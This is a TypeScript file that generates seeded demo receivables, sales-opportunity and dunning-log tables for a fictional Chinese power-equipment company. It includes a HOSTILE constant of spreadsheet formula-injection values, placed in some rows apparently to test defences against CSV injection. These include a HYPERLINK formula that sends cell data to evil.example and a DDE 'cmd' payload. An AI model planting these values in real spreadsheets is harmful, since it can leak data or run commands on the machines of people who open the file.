import { RawTable } from "../reports/table";
import { serialFromYmd } from "../rules/values";

/**
 * The demo company's data, generated from a fixed seed (no clock, no
 * randomness from the machine): the same bytes on every run. A power-equipment
 * maker with offices in six regions, an opportunity table (商机) and a
 * receivables table (应收账款) of a few hundred rows with the messy rows a
 * real one has.
 */

export const DEMO_AS_OF = serialFromYmd(2026, 11, 30);
export const DEMO_SEED = 20261130;

/** mulberry32: a small, fast, well-mixed 32-bit PRNG; deterministic for a seed. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface DemoOffice {
  province: string;
  region: string;
  code: string;
  weight: number;
}

export const DEMO_OFFICES: readonly DemoOffice[] = [
  { province: "北京", region: "华北片区", code: "BJ", weight: 3 },
  { province: "河北", region: "华北片区", code: "HE", weight: 3 },
  { province: "内蒙古", region: "华北片区", code: "NM", weight: 2 },
  { province: "江苏", region: "华东片区", code: "JS", weight: 5 },
  { province: "浙江", region: "华东片区", code: "ZJ", weight: 4 },
  { province: "上海", region: "华东片区", code: "SH", weight: 2 },
  { province: "湖南", region: "华中片区", code: "HN", weight: 4 },
  { province: "湖北", region: "华中片区", code: "HB", weight: 3 },
  { province: "广东", region: "华南片区", code: "GD", weight: 5 },
  { province: "广西", region: "华南片区", code: "GX", weight: 2 },
  { province: "四川", region: "西南片区", code: "SC", weight: 3 },
  { province: "陕西", region: "西北片区", code: "SN", weight: 2 },
  { province: "甘肃", region: "西北片区", code: "GS", weight: 1 },
];

const PRODUCT_LINES = ["电容器", "电抗器", "SVG", "滤波装置", "互感器"] as const;

export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看对账单")',
  cmd: "+cmd|' /C calc'!A0",
  sum: "@SUM(A1:A9)",
  minus: "-2+3",
  tab: "\t=1+1",
  cr: "\r=2+2",
} as const;

function customersOf(o: DemoOffice): { name: string; cls: string }[] {
  const p = o.province;
  const grid = p === "广东" || p === "广西" ? `${p}电网有限责任公司` : `国网${p}${p === "北京" || p === "上海" ? "市" : "省"}电力有限公司`;
  return [
    { name: grid, cls: "系统内" },
    { name: `华能${p}新能源有限公司`, cls: "A类" },
    { name: `大唐${p}发电有限公司`, cls: "A类" },
    { name: `${p}宏远电气成套设备有限公司`, cls: "B类" },
    { name: `${p}新源电力工程有限公司`, cls: "C类" },
  ];
}

export const RECEIVABLES_HEADER = [
  "合同号",
  "客户",
  "客户分类",
  "片区",
  "代表处",
  "产线",
  "发票号",
  "发票类型",
  "开票日期",
  "到期日",
  "金额",
  "已回款",
  "最近回款日",
  "最近催款或对账日",
  "质量问题",
  "客户所在地",
  "无力支付",
] as const;
type RKey = (typeof RECEIVABLES_HEADER)[number];
type RRow = Partial<Record<RKey, unknown>>;

/** Worksheet rows of the messy receivables rows (header on row 1), for tests and the report's reader. */
export interface MessyRows {
  textAmount: number;
  yuanAmount: number;
  fullWidthAmount: number;
  badDate: number;
  overpaid: number;
  duplicate: number;
  unknownClass: number;
  blankAmount: number;
  hostile: number[];
}

/**
 * The receivables table: `regular` generated rows (default 300) with the
 * messy rows spread among them. Rows are worksheet rows from 2.
 */
export function demoReceivables(regular = 300, seed = DEMO_SEED): { table: RawTable; messy: MessyRows } {
  const rnd = seededRandom(seed);
  const int = (lo: number, hi: number) => lo + Math.floor(rnd() * (hi - lo + 1));
  const pickOf = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)];
  const totalWeight = DEMO_OFFICES.reduce((s, o) => s + o.weight, 0);
  const pickOffice = (): DemoOffice => {
    let w = rnd() * totalWeight;
    for (const o of DEMO_OFFICES) if ((w -= o.weight) < 0) return o;
    return DEMO_OFFICES[DEMO_OFFICES.length - 1];
  };
  const rows: RRow[] = [];
  let invoiceNo = 4403_0000;
  for (let i = 0; i < regular; i++) {
    const o = pickOffice();
    const c = pickOf(customersOf(o));
    // invoice ages skewed to the recent: most within a year, a tail to four years
    const age = 3 + Math.floor(rnd() * rnd() * 1460);
    const invoiceDate = DEMO_AS_OF - age;
    const terms = pickOf([30, 60, 90, 90, 180]);
    const dueDate = invoiceDate + terms;
    const amount = int(50, 3_000) * 1_000 + (rnd() < 0.3 ? int(1, 99_999) / 100 : 0);
    const u = rnd();
    let paid = 0;
    if (u < 0.22) paid = amount;
    else if (u < 0.6) paid = Math.round(amount * (0.3 + 0.6 * rnd()));
    const lastPayment = paid > 0 ? Math.min(DEMO_AS_OF - 1, invoiceDate + int(20, Math.max(21, Math.min(age - 1, 400)))) : null;
    const overdue = DEMO_AS_OF - dueDate;
    const lastDemand = overdue > 60 && rnd() < 0.55 ? DEMO_AS_OF - int(5, Math.min(overdue, 700)) : null;
    let location = o.province;
    if (rnd() < 0.04) location = pickOf(DEMO_OFFICES.filter((x) => x.region !== o.region)).province;
    invoiceNo += int(1, 97);
    rows.push({
      合同号: `HT-${Math.floor((invoiceDate - 1) / 365.25) + 1900}-${o.code}-${String(100 + i).padStart(4, "0")}`,
      客户: c.name,
      客户分类: c.cls,
      片区: o.region,
      代表处: `${o.province}代表处`,
      产线: pickOf(PRODUCT_LINES),
      发票号: String(invoiceNo).padStart(8, "0"),
      发票类型: rnd() < 0.85 ? "增值税专用发票" : "增值税普通发票",
      开票日期: invoiceDate,
      到期日: dueDate,
      金额: amount,
      已回款: paid,
      最近回款日: lastPayment,
      最近催款或对账日: lastDemand,
      质量问题: rnd() < 0.03 ? pickOf(["是", "电容器渗漏油，待更换", "SVG模块故障，客户拒付质保金"]) : null,
      客户所在地: location,
    });
  }

  const d = (y: number, m: number, day: number) => serialFromYmd(y, m, day);
  const base = (o: DemoOffice, k: number): RRow => ({
    合同号: `HT-2025-${o.code}-9${String(k).padStart(3, "0")}`,
    客户: customersOf(o)[3].name,
    客户分类: "B类",
    片区: o.region,
    代表处: `${o.province}代表处`,
    产线: "电容器",
    发票号: `9900${String(k).padStart(4, "0")}`,
    发票类型: "增值税专用发票",
    开票日期: d(2025, 9, 1 + k),
    到期日: d(2025, 12, 1 + k),
    金额: 200_000,
    已回款: 0,
    客户所在地: o.province,
  });
  const office = (p: string) => DEMO_OFFICES.find((o) => o.province === p)!;
  const messyRows: { key: keyof MessyRows | "hostile" | "other"; row: RRow }[] = [
    { key: "textAmount", row: { ...base(office("江苏"), 1), 金额: "1,234,567.50", 已回款: "234,567.50" } },
    { key: "yuanAmount", row: { ...base(office("广东"), 2), 金额: "¥86,000", 已回款: null } },
    { key: "fullWidthAmount", row: { ...base(office("湖南"), 3), 金额: "１２８０００.００", 已回款: "２８０００" } },
    { key: "badDate", row: { ...base(office("浙江"), 4), 到期日: "2026-02-30", 开票日期: "2025/11/30" } },
    { key: "overpaid", row: { ...base(office("四川"), 5), 金额: 100_000, 已回款: 120_000, 最近回款日: d(2026, 10, 8) } },
    { key: "unknownClass", row: { ...base(office("湖北"), 7), 客户分类: "战略客户" } },
    { key: "blankAmount", row: { ...base(office("陕西"), 8), 金额: null } },
    {
      key: "hostile",
      row: { ...base(office("北京"), 9), 客户: HOSTILE.hyperlink, 合同号: HOSTILE.cmd, 产线: HOSTILE.sum, 发票号: HOSTILE.minus },
    },
    { key: "hostile", row: { ...base(office("河北"), 10), 客户: HOSTILE.tab, 产线: HOSTILE.cr, 质量问题: HOSTILE.cr } },
    // dates typed as text, traditional region, blank region (derived from the office)
    { key: "other", row: { ...base(office("广西"), 11), 开票日期: "2025年6月30日", 到期日: "2025/9/28", 片区: "華南片區" } },
    { key: "other", row: { ...base(office("甘肃"), 12), 片区: null } },
    // a pre-2017 VAT special invoice (the 180-day certification rule applied); its 2025 letter came after the
    // legal period ran out in 2019, so it restarted nothing (flagged: only a written acknowledgement revives it)
    {
      key: "other",
      row: { ...base(office("内蒙古"), 13), 开票日期: d(2016, 8, 15), 到期日: d(2016, 11, 15), 最近催款或对账日: d(2025, 3, 20) },
    },
    // limitation about to run out
    {
      key: "other",
      row: { ...base(office("上海"), 14), 开票日期: d(2023, 9, 1), 到期日: d(2023, 12, 31), 已回款: 50_000, 最近回款日: d(2024, 1, 20) },
    },
    // a customer found unable to pay: straight to the lawyer letter, whatever its age
    { key: "other", row: { ...base(office("陕西"), 15), 无力支付: "经营异常" } },
  ];
  const out: RRow[] = [...rows];
  const messy: Partial<MessyRows> = { hostile: [] };
  const step = Math.max(1, Math.floor(rows.length / (messyRows.length + 1)));
  const FIRST = 2;
  messyRows.forEach((m, k) => {
    const at = Math.min(out.length, (k + 1) * step + k);
    out.splice(at, 0, m.row);
  });
  // worksheet rows after all insertions
  out.forEach((r, i) => {
    const m = messyRows.find((x) => x.row === r);
    if (!m) return;
    if (m.key === "hostile") messy.hostile!.push(FIRST + i);
    else if (m.key !== "other") (messy as Record<string, unknown>)[m.key] = FIRST + i;
  });
  // a duplicate invoice: a copy of an early open row's invoice number on a later row
  const dupAt = Math.min(out.length, Math.floor(out.length * 0.8));
  const original = out.find((r) => typeof r.已回款 === "number" && typeof r.金额 === "number" && r.已回款 < r.金额)!;
  out.splice(dupAt, 0, { ...original, 合同号: `${String(original.合同号)}-补`, 金额: 58_000, 已回款: 0 });
  messy.duplicate = FIRST + dupAt;
  return {
    table: {
      header: [...RECEIVABLES_HEADER],
      rows: out.map((r) => RECEIVABLES_HEADER.map((h) => (h in r ? (r[h] ?? null) : null))),
      firstRowNumber: FIRST,
      source: "应收账款",
    },
    messy: messy as MessyRows,
  };
}

export const OPPORTUNITY_HEADER = [
  "项目名称",
  "客户",
  "项目类型",
  "项目类别",
  "金额",
  "代表处",
  "项目所在地",
  "客户所在地",
  "业主所在地",
  "配套厂所在地",
  "合同签订地",
  "立项条件",
  "品牌认同度",
  "客户成熟度",
  "竞争对手参与比例",
  "价格竞争力",
  "客户企业性质",
  "客户财务状况",
  "客户付款历史",
  "行业盈利能力",
  "发起人",
  "项目经理",
  "客户代表",
  "解决方案代表",
  "交付代表",
  "预计招标日期",
  "预计签约日期",
  "阶段",
  "状态",
  "最近跟进日期",
  "距采购月数",
  "备注",
] as const;
type OKey = (typeof OPPORTUNITY_HEADER)[number];
type ORow = Partial<Record<OKey, unknown>>;

/** The opportunity table (商机): every project type, several classes and regions, a few imperfect rows. */
export function demoOpportunities(): RawTable {
  const d = (y: number, m: number, day: number) => serialFromYmd(y, m, day);
  const rows: ORow[] = [
    {
      项目名称: "湖南500kV变电站电容器集采",
      客户: "国网湖南省电力有限公司",
      项目类型: "国网集采/专项招标项目",
      项目类别: "国南网集采项目",
      金额: 12_000_000,
      代表处: "湖南代表处",
      项目所在地: "湖南",
      客户所在地: "湖南",
      品牌认同度: "按公司方案上图",
      客户成熟度: "长期合作客户",
      竞争对手参与比例: 0.05,
      价格竞争力: "很强",
      客户企业性质: "两网、大型央企",
      客户财务状况: "很好",
      客户付款历史: "无坏账无延期",
      行业盈利能力: "高速发展期",
      发起人: "张建国",
      项目经理: "李明",
      客户代表: "王磊",
      解决方案代表: "赵峰",
      交付代表: "钱勇",
      预计招标日期: d(2027, 1, 15),
      预计签约日期: d(2027, 3, 1),
      备注: "重点项目",
    },
    {
      项目名称: "华能乌兰察布风电场无功补偿MTO",
      客户: "华能内蒙古新能源有限公司",
      项目类型: "发电MTO项目",
      项目类别: "常规-特别重大项目",
      金额: 6_000_000,
      代表处: "内蒙古代表处",
      项目所在地: "内蒙古",
      品牌认同度: "无倾向性",
      客户成熟度: "首次接触",
      竞争对手参与比例: 0.55,
      价格竞争力: "一般",
      客户企业性质: "民营企业",
      客户财务状况: "差",
      客户付款历史: "有坏账",
      行业盈利能力: "衰退期",
      项目经理: "孙浩",
      客户代表: "周洋",
      预计招标日期: d(2027, 2, 20),
      预计签约日期: d(2027, 4, 30),
    },
    {
      项目名称: "大唐张家口光伏电站SVG",
      客户: "大唐河北发电有限公司",
      项目类型: "MTO",
      项目类别: "常规-一般项目",
      金额: 4_800_000,
      代表处: "河北",
      品牌认同度: 3,
      客户成熟度: 3,
      竞争对手参与比例: 0.4,
      价格竞争力: 3,
      客户企业性质: "地方国企、上市公司",
      客户财务状况: "好",
      客户付款历史: "无坏账有延期",
      行业盈利能力: "发展期",
      发起人: "吴刚",
      项目经理: "郑伟",
    },
    {
      项目名称: "南网柔直换流站配套电抗器",
      客户: "中国南方电网有限责任公司",
      项目类型: "南網集採/專項招標項目",
      项目类别: "國南網集採項目",
      金额: 30_000_000,
      代表处: "广东代表处",
      品牌认同度: "認可",
      客户成熟度: "長期合作客戶",
      竞争对手参与比例: "20%",
      价格竞争力: "強",
      客户企业性质: "两网、大型央企",
      客户财务状况: "很好",
      客户付款历史: "無壞賬無延期",
      行业盈利能力: "稳定期",
      发起人: "冯志强",
      项目经理: "陈晓东",
      客户代表: "褚建华",
      解决方案代表: "卫国平",
      交付代表: "蒋涛",
    },
    {
      项目名称: "陇东-山东特高压直流工程",
      客户: "国网特高压建设分公司",
      项目类型: "交直流特高压项目(含柔直)",
      项目类别: "常规-重大项目",
      金额: 80_000_000,
      项目所在地: "甘肃省",
      品牌认同度: "认可",
      客户成熟度: "有过合同且有过合作关系",
      竞争对手参与比例: 0.3,
      价格竞争力: "强",
      客户企业性质: 4,
      客户财务状况: 4,
      客户付款历史: 3,
      行业盈利能力: "发展期",
      发起人: "沈立新",
      项目经理: "韩冰",
      客户代表: "杨帆",
      解决方案代表: "朱永康",
      交付代表: "秦岭",
      预计招标日期: d(2027, 3, 10),
    },
    {
      项目名称: "江苏省公司配网电容器集采",
      客户: "国网江苏省电力有限公司",
      项目类型: "Provincial power company tender project",
      项目类别: "Provincial/municipal bureau tender project",
      金额: 3_500_000,
      代表处: "Jiangsu",
      品牌认同度: "Recognised",
      客户成熟度: "Long-term customer",
      竞争对手参与比例: "35%",
      价格竞争力: "Strong",
      客户企业性质: "large private",
      客户财务状况: "Average",
      客户付款历史: "no history",
      行业盈利能力: "Stable",
      发起人: "尤海",
      项目经理: "许静",
      客户代表: "何平",
      解决方案代表: "吕强",
      交付代表: "施华",
    },
    {
      项目名称: "陕西地电无功补偿集采",
      客户: "陕西地方电力（集团）有限公司",
      项目类型: "地电集采项目",
      项目类别: "常规-重要项目",
      金额: 2_000_000,
      代表处: "陕西代表处",
      品牌认同度: "认可",
      客户成熟度: "有过合同或有合作关系",
      竞争对手参与比例: "60%",
      价格竞争力: "差",
      客户企业性质: "地方国企、上市公司",
      客户财务状况: "一般",
      客户付款历史: "无合同",
      行业盈利能力: "稳定期",
      发起人: "张建国",
      项目经理: "孔亮",
      预计签约日期: "2027年5月1日",
    },
    {
      项目名称: "华东集招合作滤波器项目",
      客户: "上海电气输配电集团",
      项目类型: "集招合作类项目",
      项目类别: "受控销售项目",
      金额: 9_000_000,
      合同签订地: "上海",
      立项条件: "立项时明确合同签订地",
      品牌认同度: "认可",
      客户成熟度: "长期合作客户",
      竞争对手参与比例: "10%",
      价格竞争力: "强",
      客户企业性质: "地方国企、上市公司",
      客户财务状况: "好",
      客户付款历史: "无坏账无延期",
      行业盈利能力: "发展期",
      发起人: "曹阳",
      项目经理: "严军",
      客户代表: "华亮",
      解决方案代表: "金鑫",
      交付代表: "魏东",
    },
    {
      项目名称: "成都轨道交通SVG自营",
      客户: "成都地铁有限责任公司",
      项目类型: "客户经理自营项目",
      项目类别: "常规-一般项目",
      金额: 1_200_000,
      客户所在地: "四川",
      品牌认同度: "认可",
      客户成熟度: "首次接触",
      竞争对手参与比例: "45%",
      价格竞争力: "一般",
      客户企业性质: "地方国企、上市公司",
      客户财务状况: "好",
      客户付款历史: "无合同",
      行业盈利能力: "发展期",
      发起人: "陶然",
      项目经理: "姜波",
      客户代表: "姜波",
    },
    {
      项目名称: "配套厂电容器配套供货",
      客户: "浙江宏远电气成套设备有限公司",
      项目类型: "配套类项目",
      项目类别: "常规-重要项目",
      金额: 800_000,
      配套厂所在地: "浙江",
      业主所在地: "福建",
      立项条件: "配套厂中标前",
      品牌认同度: "认可",
      客户成熟度: "有过合同且有过合作关系",
      竞争对手参与比例: "0%",
      价格竞争力: "强",
      客户企业性质: "大型民营企业",
      客户财务状况: "好",
      客户付款历史: "无坏账有延期",
      行业盈利能力: "稳定期",
      发起人: "戚永",
      项目经理: "谢敏",
    },
    {
      项目名称: "广州500kV站电容器大修",
      客户: "广东电网有限责任公司广州供电局",
      项目类型: "大修服务类项目",
      项目类别: "常规-一般项目",
      金额: 450_000,
      项目所在地: "广东",
      品牌认同度: "按公司方案上图",
      客户成熟度: "长期合作客户",
      竞争对手参与比例: 0,
      价格竞争力: "很强",
      客户企业性质: "两网、大型央企",
      客户财务状况: "很好",
      客户付款历史: "无坏账无延期",
      行业盈利能力: "稳定期",
      发起人: "邹明",
      项目经理: "喻红",
    },
    {
      项目名称: "南瑞集团电容器单一来源项目",
      客户: "南瑞集团有限公司",
      项目类型: "国南网直属单位项目",
      项目类别: "国南网集采项目",
      金额: 5_000_000,
      品牌认同度: "认可",
      客户成熟度: "长期合作客户",
      竞争对手参与比例: "15%",
      价格竞争力: "强",
      客户企业性质: "两网、大型央企",
      客户财务状况: "很好",
      客户付款历史: "无坏账无延期",
      行业盈利能力: "发展期",
      发起人: "柏松",
      项目经理: "水清",
    },
    {
      项目名称: "海上风电柔直战略合作",
      客户: "三峡集团",
      项目类型: "战略类项目",
      项目类别: "战略类项目",
      金额: 200_000_000,
      品牌认同度: "认可",
      客户成熟度: "长期合作客户",
      竞争对手参与比例: "25%",
      价格竞争力: "强",
      发起人: "窦文",
      项目经理: "章华",
    },
    {
      项目名称: "湖北荆门储能电站SVG",
      客户: "湖北新源电力工程有限公司",
      项目类型: "发电MTO项目",
      项目类别: "常规-一般项目",
      金额: "800万",
      代表处: "湖北",
      品牌认同度: "认可",
      客户成熟度: "有过合同或有合作关系",
      竞争对手参与比例: "30%",
      价格竞争力: "强",
      客户企业性质: "民营企业",
      客户财务状况: "一般",
      客户付款历史: "无坏账有延期",
      行业盈利能力: "发展期",
      发起人: "黄河",
      项目经理: "林涛",
      客户代表: HOSTILE.sum,
      备注: HOSTILE.hyperlink,
    },
    {
      项目名称: "广西钦州港区配网改造",
      客户: "广西电网有限责任公司",
      项目类型: "省电力公司集采项目",
      项目类别: "",
      金额: "待定",
      代表处: "广西代表处",
      品牌认同度: "非常认可",
      客户成熟度: "长期合作客户",
      竞争对手参与比例: "20%",
      价格竞争力: "强",
      预计招标日期: "2027-02-30",
    },
  ];
  rows.forEach((r, i) => Object.assign(r, PIPELINE_OF_ROW[i]));
  rows.push(...demoPipelineRows());
  return {
    header: [...OPPORTUNITY_HEADER],
    rows: rows.map((r) => OPPORTUNITY_HEADER.map((h) => (h in r ? (r[h] ?? null) : null))),
    firstRowNumber: 2,
    source: "商机",
  };
}

/** Worksheet rows of the opportunities the demo writes a charter for. */
export const DEMO_CHARTER_ROWS = [2, 3, 5] as const;

/**
 * The pipeline columns of the hand-written opportunities, in their order: a
 * stale follow-up, a hot lead still in 管理线索, a stage given by its gate
 * (AT3), an approved project §6 gives no owner, wins, losses and a pause.
 */
const PIPELINE_OF_ROW: readonly ORow[] = [
  { 阶段: "引导客户", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 11, 10), 距采购月数: 2 },
  { 阶段: "验证机会点", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 9, 20), 距采购月数: 3 },
  { 阶段: "制定并提交解决方案", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 11, 25), 预计签约日期: serialFromYmd(2027, 1, 20) },
  { 阶段: "合同谈判与签订", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 11, 28), 预计签约日期: serialFromYmd(2026, 12, 20) },
  { 阶段: "引导客户", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 11, 2), 预计签约日期: serialFromYmd(2027, 6, 30) },
  { 阶段: "合同履行", 状态: "赢单", 最近跟进日期: serialFromYmd(2026, 10, 15) },
  { 阶段: "验证机会点", 状态: "丢单" },
  { 阶段: "制定并提交解决方案", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 10, 20), 预计签约日期: serialFromYmd(2026, 11, 15) },
  { 阶段: "管理线索", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 11, 18), 距采购月数: 1 },
  { 阶段: "引导客户", 状态: "暂停" },
  { 阶段: "关闭", 状态: "赢单" },
  { 阶段: "AT3", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 11, 15), 预计签约日期: serialFromYmd(2027, 2, 28) },
  { 阶段: "验证机会点", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 11, 29) },
  { 阶段: "管理线索", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 11, 1), 距采购月数: 8 },
  { 阶段: "验证机会点", 状态: "跟进中", 最近跟进日期: serialFromYmd(2026, 11, 5) },
];

/** Further opportunities for the pipeline, from a fixed seed: every stage and status over the offices. */
function demoPipelineRows(): ORow[] {
  const random = seededRandom(DEMO_SEED + 12);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(random() * xs.length)];
  const stages = ["管理线索", "管理线索", "验证机会点", "验证机会点", "引导客户", "引导客户", "制定并提交解决方案", "合同谈判与签订", "合同履行", "关闭"];
  const types = ["省电力公司集采项目", "发电MTO项目", "客户经理自营项目", "地电集采项目", "大修服务类项目"];
  const people = ["李明", "孙浩", "郑伟", "许静", "孔亮", "严军", "姜波", "谢敏", "喻红", "林涛"];
  const products = ["电容器", "SVG", "滤波装置", "电抗器", "无功补偿"];
  const rows: ORow[] = [];
  for (let i = 0; i < 26; i++) {
    const office = pick(DEMO_OFFICES);
    const customer = pick(customersOf(office));
    const stage = stages[i % stages.length];
    const closing = stage === "合同履行" || stage === "关闭";
    const status = closing ? pick(["赢单", "赢单", "丢单"]) : pick(["跟进中", "跟进中", "跟进中", "跟进中", "暂停", "丢单"]);
    const row: ORow = {
      项目名称: `${office.province}${customer.name.slice(0, 2)}${pick(products)}项目${i + 1}`,
      客户: customer.name,
      项目类型: pick(types),
      项目类别: pick(["常规-一般项目", "常规-重要项目"]),
      金额: Math.round(50 + random() * 950) * 10_000,
      代表处: `${office.province}代表处`,
      品牌认同度: pick(["按公司方案上图", "认可", "无倾向性", "不认可"]),
      客户成熟度: pick(["长期合作客户", "有过合同且有过合作关系", "有过合同或有合作关系", "首次接触"]),
      竞争对手参与比例: pick([0.1, 0.25, 0.4, 0.6, 0.8]),
      价格竞争力: pick(["很强", "强", "一般", "差"]),
      项目经理: random() < 0.85 ? pick(people) : undefined,
      预计签约日期: random() < 0.85 ? DEMO_AS_OF - 45 + Math.floor(random() * 420) : undefined,
      阶段: stage,
      状态: status,
      最近跟进日期: random() < 0.9 ? DEMO_AS_OF - Math.floor(random() * 50) : undefined,
    };
    if (stage === "管理线索") row.距采购月数 = Math.floor(random() * 10);
    rows.push(row);
  }
  return rows;
}

export const DUNNING_LOG_HEADER = ["客户", "合同号", "发票号", "日期", "方式", "客户签章确认"] as const;

/**
 * The demo's dunning log (催收记录), drawn from the receivables table: for
 * every fifth customer a statement signed back (whole customer), for the next
 * a dunning letter on its first contract, a promise to pay, a lawyer letter,
 * and one letter dated after the as-of date (which the letters leave out).
 */
export function demoDunningLog(receivables: RawTable): RawTable {
  const customerAt = receivables.header.indexOf("客户");
  const contractAt = receivables.header.indexOf("合同号");
  const firstContract = new Map<string, string>();
  for (const r of receivables.rows) {
    const customer = typeof r[customerAt] === "string" ? (r[customerAt] as string).trim() : "";
    if (customer !== "" && !firstContract.has(customer)) firstContract.set(customer, String(r[contractAt] ?? ""));
  }
  const rows: unknown[][] = [];
  [...firstContract].forEach(([customer, contract], k) => {
    if (k % 5 === 0) rows.push([customer, null, null, DEMO_AS_OF - 240 - k, "对账函", "是"]);
    else if (k % 5 === 1) rows.push([customer, contract, null, DEMO_AS_OF - 45, "催款函", "否"]);
    else if (k % 7 === 3) rows.push([customer, null, null, DEMO_AS_OF - 100, "还款承诺", "是"]);
  });
  const [lawyer, late] = [...firstContract.keys()].slice(2, 4);
  rows.push([lawyer, null, null, DEMO_AS_OF - 20, "律师函", null]);
  rows.push([late, null, null, DEMO_AS_OF + 3, "催款函", null]);
  return { header: [...DUNNING_LOG_HEADER], rows, firstRowNumber: 2, source: "催收记录" };
}
